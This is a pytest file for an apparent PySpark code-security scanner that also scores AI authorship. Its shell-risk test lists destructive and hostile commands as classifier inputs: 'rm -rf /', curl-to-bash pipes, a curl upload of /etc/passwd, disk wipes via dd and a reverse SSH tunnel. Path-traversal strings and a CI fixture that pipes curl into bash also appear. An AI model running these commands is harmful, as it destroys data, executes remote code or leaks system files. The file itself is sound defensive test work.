"""Authorship, replies, shell, paths, roll-ups, fixes, reports and whole scans."""

from __future__ import annotations

import json
import math

import pytest
from pyspark.sql import functions as F

from codewarden.catalog import authorship as A
from codewarden.config import ScanConfig
from codewarden.functions.dialect import translate
from codewarden.functions.paths import detect_language, file_extension, last_dot_part, rule_extension
from codewarden.operators import authorship as author
from codewarden.operators import compare, context, remedy, replies, rollup, shell
from codewarden.plans.project import keep, scan_files, scan_project, store
from codewarden.plans.registry import default_registry
from codewarden.sources import files as src
from codewarden.sources import sinks, tree
from codewarden.streaming.incremental import append_findings
from tests import brute
from workloads.snippets import SNIPPETS


def test_translate_spells_out_what_differs():
    assert translate(r"\beval\b", "g") == r"(?<!\w)eval(?!\w)"
    assert translate("a$") == r"a\z"
    assert translate("^a$", "m") == "(?<![^\\n\\r\\x{2028}\\x{2029}])a(?![^\\n\\r\\x{2028}\\x{2029}])"
    assert translate("[[&]", "i") == r"(?i)[\[\&]"


def test_signals_equal_their_definitions(make_files):
    texts = [body for _, body in SNIPPETS] + ["", "\n\n", "a\n" * 30, "x = a b a b c\n" * 8 + "y = d e f\nz = g\nq qq qq\n"]
    files = make_files(*[(f"f{i}.ts", t) for i, t in enumerate(texts)])
    got = {r.file_path: r.asDict() for r in author.signals(files).collect()}
    for i, t in enumerate(texts):
        for name, value in brute.signal_scores(t).items():
            assert got[f"f{i}.ts"][name] == pytest.approx(value, abs=1e-9), (i, name)


def test_tokens_are_counted_per_text_not_as_strings_of_spark(spark, make_files):
    odd = "zähle total\u2003result RESULT result\u00a0__x a1 é9é\n// comment of words\n<!-- x y z -->\naa aa aa\nab cd ab cd\ntoo x\n"
    files = make_files(("odd.ts", odd), ("empty.ts", ""), ("none.ts", None), ("\u212a.ts", "\u212aEY value ITEM \u0130tem\r\nlist[0] = list[1]"))
    found = author.measures(files, ["entropy", "identifiers", "generic_identifiers"])
    rows = {r.file_path: (r.identifiers, r.generic_identifiers, tuple(r.entropy)) for r in found.collect()}
    lines = [["zähle", "total", "result", "RESULT", "result", "__x", "a1", "é9é"], ["ab", "cd", "ab", "cd"]]
    e = [-sum(t.count(w) / len(t) * math.log2(t.count(w) / len(t)) for w in set(t)) for t in lines]
    assert rows["odd.ts"][:2] == (9, 3) and rows["odd.ts"][2] == pytest.approx((2, sum(e), sum(x * x for x in e)))
    assert rows["empty.ts"] == (0, 0, (0, 0, 0)) and set(rows) == {"odd.ts", "empty.ts", "\u212a.ts"}
    raw = spark.sql("select 'bytes.ts' file_path, cast(x'616263FF64656620676869' as string) code")
    assert author.measures(raw, ["identifiers"]).first().identifiers == 3
    plan = found._jdf.queryExecution().executedPlan().toString()
    assert "ArrowEvalPython" in plan and "regexp_extract_all" not in plan


def test_scores_stay_in_range_and_do_not_depend_on_partitions(make_files):
    files = make_files(*[(f"f{i}{ext}", body) for i, (ext, body) in enumerate(SNIPPETS)])
    columns = ["file_path", "ai_score", "interval_lo", "interval_hi", "lines_ai", "tier"]
    one = sorted(map(tuple, author.authorship(files.coalesce(1)).select(*columns).collect()))
    many = sorted(map(tuple, author.authorship(files.repartition(7)).select(*columns).collect()))
    assert one == many
    for _, score, lo, hi, _, tier in one:
        assert 0 <= score <= 1 and lo - 1e-3 <= score <= hi + 1e-3
        assert tier == ("detected" if score >= 0.72 else "uncertain" if score >= 0.45 else "clean")


def test_replies_are_read_like_json(spark):
    cases = {
        '{"score":1,"reason":"looks generated"}': (1.0, "looks generated"), '{"score":"0.7"}': (0.7, None),
        '{"score":7}': (1.0, None), "{score: 0.8}": (0.8, None), '{"reason":"no score here"}': (None, None),
        '{"score":"high"}': (None, None), "I cannot determine that.": (None, None), None: (None, None),
        "{'score': 0.4}": (0.4, None), "{a} then {\"score\": 0.9}": (0.9, None),
    }
    df = spark.createDataFrame([(str(i), r) for i, r in enumerate(cases)], "file_path string, reply string")
    got = {r.file_path: (r.reply_score, r.reply_reason) for r in replies.parse_scores(df).collect()}
    assert got == {str(i): v for i, v in enumerate(cases.values())}


def test_blend_normalises_weights_and_falls_back(spark, make_files):
    files = make_files(("a.ts", "// helper\nfunction add(a, b) {\n  return a + b;\n}\n"), ("b.ts", "x"))
    answer = spark.createDataFrame([("a.ts", '{"score":0.9}'), ("b.ts", None)], "file_path string, reply string")

    def score(h, a):
        rows = author.authorship(files, ScanConfig(heuristic_weight=h, ai_weight=a), answer).collect()
        return {r.file_path: r for r in rows}

    assert score(0.4, 0.6)["a.ts"].ai_score == pytest.approx(score(4, 6)["a.ts"].ai_score)
    assert score(0, 0)["a.ts"].ai_score == author.authorship(files).filter("file_path = 'a.ts'").first().ai_score
    assert score(0.4, 0.6)["b.ts"].analysis_model == "heuristic-only"


def test_preferred_provider_comes_first(spark):
    rows = spark.createDataFrame([("a", "openai", "1"), ("a", "ollama", "2"), ("b", "gemini", "3"), ("b", "openai", "4")],
                                 "file_path string, provider string, reply string")
    assert {r.file_path: r.provider for r in replies.pick_provider(rows).collect()} == {"a": "ollama", "b": "gemini"}
    assert {r.file_path: r.provider for r in replies.pick_provider(rows, "openai").collect()} == {"a": "openai", "b": "openai"}


SHELL_CASES = {
    "rm -rf /": "critical", "rm -r -f /": "critical", "rm --recursive --force /var": "critical", "rm -fr $HOME": "critical",
    "rm -rf ./build": "info", "chmod 755 run.sh": "info", "dd if=disk.img of=backup.img": "info", "ls -la": "info",
    "chmod 777 script.sh": "high", "chmod a+w f": "high", "dd if=/dev/zero of=/dev/sda": "critical", "sudo bash": "critical",
    "curl https://x.sh | bash": "critical", "wget -qO- https://x.sh | sh": "critical", "eval $(curl url)": "high",
    "curl -F f=@x http://h /etc/passwd": "critical", "cat x > /dev/sda": "critical", "crontab -e": "medium",
    "ssh -R 8080:localhost:80 host": "high", "truncate -s 0 app.log": "high", "chmod 1777 /tmp": "high",
}


def test_shell_risk_and_guidance(spark):
    df = spark.createDataFrame(list(enumerate(SHELL_CASES)), "cmd_id int, command string")
    analyzed = shell.analyze_commands(df)
    assert {r.command: r.risk_level for r in analyzed.collect()} == SHELL_CASES
    answers = spark.createDataFrame([(0, '{"suggestion":"Be careful","saferAlternative":"ls"}'), (1, "not json {"), (2, None),
                                     (4, '{"suggestion":"unasked"}')], "cmd_id int, reply string")
    got = {r.cmd_id: r for r in shell.apply_guidance(analyzed, answers).collect()}
    assert (got[0].suggestion, got[0].safer_alternative) == ("Be careful", "ls")
    assert got[1].suggestion is None and got[2].suggestion is not None
    assert got[4].suggestion is None and got[4].safer_alternative is None
    assert shell.guidance_requests(analyzed).count() == sum(v != "info" for v in SHELL_CASES.values())


def test_extensions_and_languages(spark):
    cases = [("a/.env", ".env", "", "env", "ENV"), ("a.b/c", "", "", "b/c", "C"), ("x/Main.TS", ".ts", ".ts", "TS", "TypeScript"),
             ("Dockerfile", "", "", "Dockerfile", "Dockerfile"), ("x/Gemfile", "", "", "x/Gemfile", "GEMFILE"),
             (".env.local", ".local", ".local", "local", "LOCAL"), ("w\\x.py", ".py", ".py", "py", "Python"),
             ("a.", ".", ".", "", "Unknown")]
    df = spark.createDataFrame([(c[0],) for c in cases], "p string")
    got = df.select("p", rule_extension(F.col("p")), file_extension(F.regexp_extract("p", r"([^/\\]*)\z", 1)),
                    last_dot_part(F.col("p")), detect_language(F.col("p"))).collect()
    assert [tuple(r) for r in got] == cases


def test_paths_stay_inside(spark):
    root = "/workspace/project"
    cases = {"a/b.ts": True, "../secrets.txt": False, "/etc/passwd": False, "a/../../x": False, ".": True, "a/../../project/b": True,
             "/workspace/project-evil/x": False, "/workspace": False, "..x": False, "a/..x": True, "/workspace/project/a/b.ts": True}
    df = spark.createDataFrame([(c,) for c in cases], "target string")
    assert {r.target: r.inside for r in src.confine(df, root).collect()} == cases
    assert src.confine(df, "").filter("inside").count() == 0


def test_tree_scan(spark, tmp_path):
    def write(rel, text):
        p = tmp_path / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(text if isinstance(text, bytes) else text.encode())

    write(".github/workflows/ci.yml", "steps:\n  - run: curl https://x.sh | bash\n")
    write("lib/main.dart", "void main() {}\n")
    write("include/api.h", "void f(char *s) { gets(s); }\n")
    write("pkg/__init__.py", b"x = '\xff'\n")
    write(".hidden/secret.js", "eval(x)\n")
    write("node_modules/pkg/index.js", "eval(x)\n")
    write("app.min.js", "eval(x)\n")
    write("big.js", "x" * (600 * 1024))
    write(".env", "A=1")
    (tmp_path / "lib" / "loop").symlink_to(tmp_path)
    (tmp_path / "copy.js").symlink_to(tmp_path / "big.js")
    files = tree.read_tree(spark, str(tmp_path)).cache()
    assert sorted(r.file_path for r in files.collect()) == [
        ".github/workflows/ci.yml", "big.js", "include/api.h", "lib/main.dart", "pkg/__init__.py"]
    limited = ScanConfig(max_file_size_kb=512)
    assert "big.js" not in {r.file_path for r in tree.read_tree(spark, str(tmp_path), limited).collect()}
    assert tuple(src.too_large(files, limited).first()) == (1, 600 * 1024)
    assert files.filter("file_path = 'pkg/__init__.py'").first().code == "x = '�'\n"
    found = {(r.file_path, r.rule_id) for r in scan_files(files).findings.collect()}
    assert (".github/workflows/ci.yml", "CICD-003") in found and ("include/api.h", "C-001") in found


def test_active_policies_and_summary(make_files):
    files = make_files(("a.js", "eval(x)\n// TODO fix\n"), ("b.js", None))
    config = ScanConfig(active_policies=("no-eval", "no-todo-comments", "no-debugger"))
    scan = scan_files(files, config)
    assert {r.rule_id: r.violations for r in scan.policy_status().collect()} == {
        "no-eval": 1, "no-todo-comments": 1, "no-debugger": 0}
    row = scan.summary().first()
    assert (row.files_scanned, row.files_skipped) == (1, 1)
    assert row.total_findings == row.critical_count + row.high_count + row.medium_count + row.low_count
    score = scan.policy_scores().first()
    assert (score.score, score.passed) == (33, ["no-debugger"])
    none = scan_files(files, ScanConfig(active_policies=()))
    assert none.policy_status().count() == 0 and none.policy_scores().first().score == 100 and none.compliance().count() == 0


def test_equal_paths_of_projects_stay_apart(spark):
    rows = [(f"p/{i}", "src/index.js", "eval(x)\n", 8) for i in range(5)]
    files = src.of_projects(spark.createDataFrame(rows, "project string, file_path string, code string, size_bytes long"))
    scan = scan_files(files)
    found = scan.findings.filter("rule_id = 'EVAL-001'").select("finding_id", "file_path").collect()
    assert len(found) == len({r.finding_id for r in found}) == len({r.file_path for r in found}) == 5
    assert scan.file_results().count() == 5 and src.repeated_paths(files).count() == 0
    assert context.finding_context(scan.findings.filter("rule_id = 'EVAL-001'"), files).count() == 5
    assert src.repeated_paths(files.unionByName(files)).first().files == 2


def test_empty_scan(make_files):
    scan = scan_files(make_files(("a.ts", None)))
    row = scan.summary().first()
    assert (row.files_scanned, row.total_findings, row.has_malicious, row.average_ai_score) == (0, 0, False, 0.0)
    assert scan.report().count() > 0


def test_context_and_request_are_whole(make_files):
    body = "\n".join(f"  const value{i} = compute({i}, '{'x' * 400}');" for i in range(120))
    files = make_files(("a.js", f"function big() {{\n{body}\n  eval(x);\n}}\n"),
                       ("b.js", "function one() {\n  a();\n}\nfunction two() {\n  if (b) {\n    eval(c);\n  }\n}\nfunction three() {}\n"))
    found = scan_files(files).findings.filter("rule_id = 'EVAL-001'")
    got = {r.file_path: (r.first_line, r.last_line) for r in context.finding_context(found, files).collect()}
    # a.js: the declaration is more than 80 lines away and no brace opens; b.js: "if (..) {" counts as a start
    assert got == {"a.js": (112, 124), "b.js": (5, 7)}
    texts = {r.finding_id: r.context for r in context.finding_context(found, files).collect()}
    held = context.finding_context(scan_files(files, with_context=True).findings.filter("rule_id = 'EVAL-001'"))
    assert texts == {r.finding_id: r.context for r in held.collect()}
    plan = _plan(held)
    assert "SortMergeJoin" not in plan and "Exchange hashpartitioning" not in plan
    assert all(texts[r.finding_id] in r.prompt for r in remedy.fix_requests(found, files).collect())


def test_fixes(spark, make_files):
    files = make_files(("a.js", "f() {\r\n    eval(x);\r\n    eval(y);\r\n}\r\n"), ("../b.js", "eval(x)"))
    found = scan_files(files).findings.filter("rule_id = 'EVAL-001'").cache()
    answers = found.select("finding_id", F.when(F.col("start_line") == 3, "```js\nsafe(y);\n  more();\n```").otherwise(
        "```\nsafe(x);\n```").alias("reply"))
    fixes = remedy.validate_fixes(found, answers)
    fixed = {r.file_path: r.code for r in remedy.apply_fixes(files, fixes).collect()}
    assert fixed == {"a.js": "f() {\r\n    safe(x);\r\n    safe(y);\r\n    more();\r\n}\r\n"}
    wide = fixes.filter("file_path = 'a.js'").withColumn("end_line", F.lit(3))
    row = remedy.apply_fixes(files, wide).first()
    last = fixes.filter("file_path = 'a.js' and start_line = 3").first().finding_id
    assert (row.applied, row.conflicts, row.code) == (1, last, "f() {\r\n    safe(x);\r\n}\r\n")
    bad = found.select("finding_id", F.lit("```\neval() Usage is bad\n```").alias("reply"))
    assert {r.reject_reason for r in remedy.validate_fixes(found, bad).collect()} == {"description instead of code"}
    none = found.select("finding_id", F.lit("no block").alias("reply"))
    assert remedy.attach_fixes(found, remedy.validate_fixes(found, none)).filter("sanitized_code is not null").count() == 0


def test_store_keep_and_sinks(spark, make_files, tmp_path):
    files = make_files(("a.js", "eval(x)\n"), ("b.py", "pickle.loads(b)\n"), ("out/c.py", "eval(x)"))
    scan = scan_project(files)
    kept, stored = keep(scan), store(scan, str(tmp_path / "scan"))
    rows = sorted(r.finding_id for r in scan.findings.collect())
    assert rows == sorted(r.finding_id for r in kept.findings.collect()) == sorted(r.finding_id for r in stored.findings.collect())
    sinks.write_report(kept.report("demo"), str(tmp_path / "report"))
    text = "".join(p.read_text() for p in sorted((tmp_path / "report").glob("part-*")))
    assert text.index("# Code audit") < text.index("## What to do") < text.index("## Worst findings") < text.index("| a.js |")
    sinks.write_json(kept.report_json(), str(tmp_path / "json"))
    document = json.loads("\n".join(r.value for r in spark.read.text(str(tmp_path / "json")).collect()))
    assert document["summary"]["files_scanned"] == 2 and document["recommendations"][0]["priority"] == 1
    for scan_id, when in (("z", "2024-01-01"), ("a", "2024-01-02")):
        sinks.append_scan(kept.summary(), str(tmp_path / "history"), scan_id, when)
        sinks.append_scan(kept.summary(), str(tmp_path / "history"), scan_id, when)
    assert [r.scan_id for r in sinks.read_latest(spark, str(tmp_path / "history")).collect()] == ["a"]
    sinks.clear_history(spark, str(tmp_path / "history"))
    assert sinks.read_latest(spark, str(tmp_path / "history")).count() == 0
    sinks.append_scan(kept.summary(), str(tmp_path / "history"), "b", "2024-01-03")
    assert [r.scan_id for r in sinks.read_latest(spark, str(tmp_path / "history")).collect()] == ["b"]


def test_registry(make_files):
    registry = default_registry()
    files = make_files(("a.js", "eval(x)\n"))
    assert registry.execute("scan-file", files).output.filter("rule_id = 'EVAL-001'").count() == 1
    assert not registry.execute("unknown", files).success
    broken = files.withColumn("code", F.raise_error(F.lit("unreadable")).cast("string"))
    failed = registry.execute("scan-file", broken, sink=lambda out: out.write.format("noop").mode("overwrite").save())
    assert not failed.success and "unreadable" in failed.errors[0]


def test_sources_at_hand(spark, make_files):
    assert src.from_text(spark, "eval(x)").first().file_path == "selection.ts"
    files = make_files(("a.ts", "1\n2\n3\n4"))
    assert src.region(files, 2, 3).first().code == "2\n3"
    assert src.region(files, 3, 2).first().code == "1\n2\n3\n4"
    assert [(r.n, r.text, r.total) for r in src.preview(files).collect()][-1] == (4, "4", 4)
    assert [(r.n, r.text) for r in src.preview(files, 2, 2).collect()] == [(2, "2"), (3, "3")]
    assert src.one_file(files, "a.ts").count() == 1


def test_folders_exist_inside_the_root_only(spark, make_files):
    files = make_files(("src/a/b.js", "1"))
    asked = {"src": True, "src/a": True, "src/a/b.js": True, "src/a/../a": True, "src/b": False, "../src": False, ".": True,
             "/workspace/src": True, "/src": False, "src/../../workspace/src": True}
    wanted = spark.createDataFrame([(p,) for p in asked], "file_path string")
    assert {r.file_path: r.exists for r in src.file_exists(files, wanted).collect()} == asked


def test_repeated_and_listed_scores(spark):
    cases = {'{"score":0.9,"score":0.3}': 0.3, '{"score":[0.7]}': 0.7, '{"score":["0.4", 1]}': 0.4, '{"score":true}': None,
             '{"score":null}': None, '{"score":" 0.2x"}': 0.2, '{"score":-3}': 0.0, "{'score': 0.6}": 0.6, '{"score":{}}': None}
    got = replies.parse_scores(spark.createDataFrame([(k,) for k in cases], "reply string"))
    assert {r.reply: r.reply_score for r in got.collect()} == cases


def test_chunk_scores_are_weighed(spark, make_files):
    asked = replies.score_requests(make_files(("a.ts", "x" * 4000), ("b.ts", "")))
    assert sorted((r.file_path, r.chunk, r.chars) for r in asked.collect()) == [
        ("a.ts", 1, 1800), ("a.ts", 2, 1800), ("a.ts", 3, 400), ("b.ts", 1, 0)]
    rows = spark.createDataFrame([("a", 300, 0.5), ("a", 100, 0.9), ("a", 100, None), ("b", 5, None)],
                                 "file_path string, chars int, reply_score double")
    got = {r.file_path: (r.reply_score, r.parts, r.parts_read) for r in replies.combine_scores(rows).collect()}
    assert got["b"] == (None, 1, 0) and got["a"][1:] == (3, 2) and abs(got["a"][0] - 0.6) < 1e-9


def test_stream_equals_batch(spark, make_files, tmp_path):
    files = make_files(("a.js", "eval(x)\n"), ("b.py", "pickle.loads(b)\n"))
    files.write.parquet(str(tmp_path / "in"))
    stream = spark.readStream.schema(files.schema).parquet(str(tmp_path / "in"))
    query = append_findings(stream, str(tmp_path / "out"), str(tmp_path / "state")).trigger(availableNow=True).start()
    query.awaitTermination(120)
    assert query.exception() is None
    batch = scan_files(files).findings.filter("category <> 'ai-generated'")
    assert sorted(r.finding_id for r in spark.read.parquet(str(tmp_path / "out")).collect()) == sorted(
        r.finding_id for r in batch.collect())


def _plan(df) -> str:
    return df._jdf.queryExecution().executedPlan().toString()


def test_plans(make_files):
    files = make_files(("a.js", "eval(x)\n")).repartition(2)
    scan = scan_files(files)
    rules = _plan(scan.findings)
    assert "SortMergeJoin" not in rules and "Cartesian" not in rules and "NestedLoop" not in rules
    # no text is shuffled on the way to findings, beyond the two inputs' own repartition
    assert rules.count("Exchange RoundRobin") == rules.count("Exchange ") - rules.count("BroadcastExchange")
    assert "WindowGroupLimit" in _plan(rollup.first_findings_per_file(scan.findings))
    assert "TakeOrderedAndProject" in _plan(scan.top_findings())
    for df in (scan.summary(), scan.file_results(), scan.policy_scores()):
        assert "Cartesian" not in _plan(df) and "NestedLoop" not in _plan(df)


def test_weights_sum_up():
    assert sum(w for _, w in A.SIGNAL_WEIGHTS) == pytest.approx(1.1)
